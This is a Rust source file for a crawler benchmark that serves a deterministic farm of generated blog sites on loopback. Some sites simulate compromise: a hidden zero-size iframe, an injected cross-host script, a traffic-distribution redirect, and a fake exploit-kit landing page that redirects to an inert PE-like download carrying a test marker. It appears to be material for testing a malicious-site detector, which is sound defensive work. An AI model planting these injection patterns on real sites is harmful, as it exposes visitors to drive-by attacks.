//! A farm of generated web sites on one loopback port, routed by host name, for the crawler
//! benchmark (bench/crawl). Deterministic: site `i` always serves the same content.
//!
//! Usage: `crawl_farm --sites 10000 --out DIR` — binds 127.0.0.1 on a free port, writes
//! `DIR/seeds.txt` (one URL per site) and `DIR/hosts.txt` (`name addr` for every host), prints
//! `listening <addr>`, and serves until killed (or for `--seconds N`).
//!
//! Mix (by site number modulo 20): 0–1 compromised (injected hidden iframe → TDS 302 →
//! exploit-kit landing with a JS redirect → PE-like download with the test marker); 2 injected
//! cross-host script that writes an iframe; 3–4 redirect chain (301 to www., then meta refresh);
//! 5 a download link to a clean archive; others clean pages (≈12 KB of blog HTML, same-host and
//! CDN scripts, a visible video iframe).

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use axum::Router;
use axum::extract::{Request, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};

const INFRA: usize = 50;

struct Farm {
    sites: usize,
    filler: String,
}

fn arg(name: &str) -> Option<String> {
    let mut it = std::env::args();
    while let Some(a) = it.next() {
        if a == name {
            return it.next();
        }
    }
    None
}

fn host_of(req: &Request) -> String {
    req.headers()
        .get(header::HOST)
        .and_then(|h| h.to_str().ok())
        .map(|h| h.split(':').next().unwrap_or("").to_ascii_lowercase())
        .unwrap_or_default()
}

fn html(s: String) -> Response {
    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], s).into_response()
}

fn page(farm: &Farm, i: usize, extra_head: &str, extra_body: &str) -> String {
    format!(
        "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"utf-8\"><title>Site {i} ブログ</title>\
         <link rel=\"stylesheet\" href=\"/css/style.css\"><script src=\"/js/jquery.min.js\"></script>\
         <script src=\"http://cdn{c}.farm.example/lib/analytics.js\"></script>{extra_head}</head><body>\
         <header><nav><ul><li><a href=\"/\">Home</a></li><li><a href=\"/about\">About</a></li>\
         <li><a href=\"/archive\">Archive</a></li></ul></nav></header><main>{filler}\
         <iframe src=\"http://video{c}.farm.example/embed/{i}\" width=\"560\" height=\"315\"></iframe>\
         </main>{extra_body}<footer>&copy; site {i}</footer></body></html>",
        c = i % INFRA,
        filler = farm.filler,
    )
}

async fn route(State(farm): State<Arc<Farm>>, req: Request) -> Response {
    let host = host_of(&req);
    let path = req.uri().path().to_owned();
    let Some(name) = host.strip_suffix(".farm.example") else { return StatusCode::NOT_FOUND.into_response() };
    let (www, name) = match name.strip_prefix("www.") {
        Some(n) => (true, n),
        None => (false, name),
    };
    let num = |p: &str| name.strip_prefix(p).and_then(|n| n.parse::<usize>().ok());
    if let Some(i) = num("site").filter(|&i| i < farm.sites) {
        let j = i % INFRA;
        return match (i % 20, www, path.as_str()) {
            (0 | 1, _, "/") => html(page(
                &farm,
                i,
                "",
                &format!(
                    "<iframe src=\"http://tds{j}.farm.example/in?s={i}\" width=\"0\" height=\"0\" \
                     style=\"visibility:hidden;position:absolute\"></iframe>"
                ),
            )),
            (2, _, "/") => {
                html(page(&farm, i, &format!("<script src=\"http://tds{j}.farm.example/js/c.js\"></script>"), ""))
            }
            (3 | 4, false, "/") => {
                (StatusCode::MOVED_PERMANENTLY, [(header::LOCATION, format!("http://www.site{i}.farm.example/"))], "")
                    .into_response()
            }
            (3 | 4, true, "/") => html(
                "<html><head><meta http-equiv=\"refresh\" content=\"0; url=/home\"></head><body>moved</body></html>"
                    .into(),
            ),
            (3 | 4, true, "/home") => html(page(&farm, i, "", "")),
            (5, _, "/") => html(page(&farm, i, "", "<a href=\"/files/manual.zip\">manual</a>")),
            (5, _, "/files/manual.zip") => {
                let mut z = b"PK\x03\x04".to_vec();
                z.extend(std::iter::repeat_n(b'z', 20_000));
                ([(header::CONTENT_TYPE, "application/zip")], z).into_response()
            }
            (_, _, "/") => html(page(&farm, i, "", "")),
            _ => StatusCode::NOT_FOUND.into_response(),
        };
    }
    if let Some(j) = num("tds") {
        return match path.as_str() {
            "/in" => {
                (StatusCode::FOUND, [(header::LOCATION, format!("http://ek{j}.farm.example/land"))], "").into_response()
            }
            "/js/c.js" => (
                [(header::CONTENT_TYPE, "application/javascript")],
                format!("document.write('<iframe src=\"http://ek{j}.farm.example/land\" width=1 height=1></iframe>');"),
            )
                .into_response(),
            _ => StatusCode::NOT_FOUND.into_response(),
        };
    }
    if let Some(j) = num("ek") {
        return html(format!(
            "<html><head><script>var j = PluginDetect.getVersion(\"Java\");</script></head><body>\
             <script>window.location.href = \"http://dl{j}.farm.example/update/flash_{j}.exe\";</script></body></html>"
        ));
    }
    if let Some(j) = num("dl") {
        let mut b = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
        b.extend(std::iter::repeat_n(0u8, 40_000));
        b.extend_from_slice(format!("KIZUNA-TEST-MALWARE-MARKER sample {j}").as_bytes());
        return ([(header::CONTENT_TYPE, "application/octet-stream")], b).into_response();
    }
    if num("cdn").is_some() {
        return (
            [(header::CONTENT_TYPE, "application/javascript")],
            "var _gaq = _gaq || []; _gaq.push(['_trackPageview']);",
        )
            .into_response();
    }
    if num("video").is_some() {
        return html("<html><body><video src=\"/v.mp4\" controls></video></body></html>".into());
    }
    StatusCode::NOT_FOUND.into_response()
}

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let sites: usize = arg("--sites").and_then(|s| s.parse().ok()).unwrap_or(10_000);
    let out = PathBuf::from(arg("--out").unwrap_or_else(|| ".".into()));
    let seconds: Option<u64> = arg("--seconds").and_then(|s| s.parse().ok());
    let mut filler = String::new();
    for k in 0..24 {
        let _ = write!(
            filler,
            "<article class=\"post\" id=\"post-{k}\"><h2><a href=\"/archive/{k}\">記事 {k}: 今日の出来事</a></h2>\
             <p class=\"meta\">2026-11-{d:02} by <a href=\"/author/admin\">admin</a></p><p>Lorem ipsum dolor sit amet, \
             consectetur adipiscing elit. 今日はとても良い天気でした。散歩に出かけて、公園で写真を撮りました。 \
             <img src=\"/img/{k}.jpg\" alt=\"photo {k}\" width=\"300\" height=\"200\"></p>\
             <ul class=\"tags\"><li>日記</li><li>写真</li></ul></article>",
            d = k % 28 + 1
        );
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    std::fs::create_dir_all(&out)?;
    let mut seeds = std::io::BufWriter::new(std::fs::File::create(out.join("seeds.txt"))?);
    let mut hosts = std::io::BufWriter::new(std::fs::File::create(out.join("hosts.txt"))?);
    for i in 0..sites {
        writeln!(seeds, "http://site{i}.farm.example/")?;
        writeln!(hosts, "site{i}.farm.example {addr}")?;
        if i % 20 == 3 || i % 20 == 4 {
            writeln!(hosts, "www.site{i}.farm.example {addr}")?;
        }
    }
    for j in 0..INFRA {
        for p in ["tds", "ek", "dl", "cdn", "video"] {
            writeln!(hosts, "{p}{j}.farm.example {addr}")?;
        }
    }
    seeds.flush()?;
    hosts.flush()?;
    println!("listening {addr}");
    let farm = Arc::new(Farm { sites, filler });
    let app = Router::new().fallback(route).with_state(farm);
    let serve = axum::serve(listener, app);
    match seconds {
        Some(s) => {
            let _ = tokio::time::timeout(std::time::Duration::from_secs(s), serve).await;
        }
        None => serve.await?,
    }
    Ok(())
}
